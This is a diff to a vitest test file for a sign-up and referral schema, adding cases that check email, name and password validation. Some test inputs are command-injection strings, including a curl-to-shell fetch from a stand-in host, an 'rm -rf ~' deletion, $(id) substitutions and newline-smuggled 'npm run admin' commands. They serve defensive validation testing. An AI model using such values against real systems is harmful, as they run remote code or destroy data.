@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { fieldErrors } from '../../shared/api/errors.js';
 import { openApiDocument } from '../../shared/api/openapi.js';
 import { fillPath, routeList, toColonPath } from '../../shared/api/routes.js';
-import { changePasswordRequest, notifySettingsInput, referralCode, signupRequest } from '../../shared/domain/user.js';
+import { changePasswordRequest, email, notifySettingsInput, passwordResetConfirm, referralCode, referralRequest, signupRequest } from '../../shared/domain/user.js';
 import { texts } from '../../shared/texts.js';
 
 const signup = { userReferralId: 'abc-123-def', firstName: 'Asha', lastName: 'Patel', userEmail: 'Asha@Example.org', userPhoneCountryCode: '+1', userPhoneNumber: '416 555 0101', userPass: 'secret' };
@@ -19,6 +19,62 @@ describe('sign-up schema', () => {
   it('asks for 6 characters with the spec text, and accepts exactly 6', () => {
     expect(fieldErrors(signupRequest.safeParse({ ...signup, userPass: '12345' }).error!.issues).userPass).toEqual([texts.passwordRecommendation]);
     expect(signupRequest.safeParse({ ...signup, userPass: '123456' }).success).toBe(true);
+  });
+  it.each([
+    '$({curl,-s,x.example/y}|sh)@evil.com',
+    '`id`@evil.com',
+    'a;rm -rf ~@evil.com',
+    'a|b@evil.com',
+    'a&b@evil.com',
+    "a'b@evil.com",
+    'a"b@evil.com',
+    'a<b>@evil.com',
+    'a\\b@evil.com',
+    'a!b@evil.com',
+    'a#b@evil.com',
+    'a*b@evil.com',
+    'a=b@evil.com',
+    'a?b@evil.com',
+    'a~b@evil.com',
+    'a{b}@evil.com',
+    'asha@evil.com;id',
+    'asha@$(id).com',
+    'asha@-evil.com',
+    'asha@evil-.com',
+    'asha@evil..com',
+    'asha@evil.c',
+    'asha@evil.c0m',
+    '.asha@example.org',
+    'asha.@example.org',
+    'as..ha@example.org',
+    'asha\n@example.org',
+    `${'a'.repeat(65)}@example.org`,
+    `asha@${'a'.repeat(64)}.org`,
+    'asha@example.org\nnpm run admin',
+  ])('refuses the shell-laden or malformed address %s with the spec text', (userEmail) => {
+    const r = signupRequest.safeParse({ ...signup, userEmail });
+    expect(r.success).toBe(false);
+    expect(fieldErrors(r.error!.issues).userEmail).toEqual([texts.emailInvalid]);
+  });
+  it.each(['asha.patel+rishta@example.org', 'A_B%c-d@mail.example.co.uk', 'x@a-b.io', '1@2.example.in'])('accepts %s', (address) => {
+    expect(email.safeParse(address).success).toBe(true);
+  });
+  it('the referral request uses the same grammar', () => {
+    const r = referralRequest.safeParse({ requesterFirstName: 'A', requesterLastName: 'B', requesterEmailId: '$(id)@evil.com', requesterPhoneNumber: '4165550100' });
+    expect(fieldErrors(r.error!.issues).requesterEmailId).toEqual([texts.emailInvalid]);
+  });
+  it('names refuse line breaks and other control characters (they are quoted in the volunteers\' mail)', () => {
+    expect(signupRequest.safeParse({ ...signup, firstName: 'Asha\nnpm run admin -- referral x@y.org' }).success).toBe(false);
+    expect(referralRequest.safeParse({ requesterFirstName: 'A\u0007', requesterLastName: 'B', requesterEmailId: 'a@example.org', requesterPhoneNumber: '4165550100' }).success).toBe(false);
+  });
+  it('passwords may not begin or end with a space (Cognito refuses them)', () => {
+    for (const userPass of [' secret123', 'secret123 ', '\tsecret123']) {
+      const errors = fieldErrors(signupRequest.safeParse({ ...signup, userPass }).error!.issues);
+      expect(errors.userPass).toEqual([texts.passwordSpaces]);
+      expect(changePasswordRequest.safeParse({ currentPassword: 'old-one', userPass }).success).toBe(false);
+      expect(passwordResetConfirm.safeParse({ userEmail: 'a@example.org', code: '123456', userPass }).success).toBe(false);
+    }
+    expect(signupRequest.safeParse({ ...signup, userPass: 'with inner space' }).success).toBe(true);
   });
   it('requires first and last name, and refuses unknown fields', () => {
     const r = signupRequest.safeParse({ ...signup, firstName: '  ', lastName: undefined, isAdmin: true });
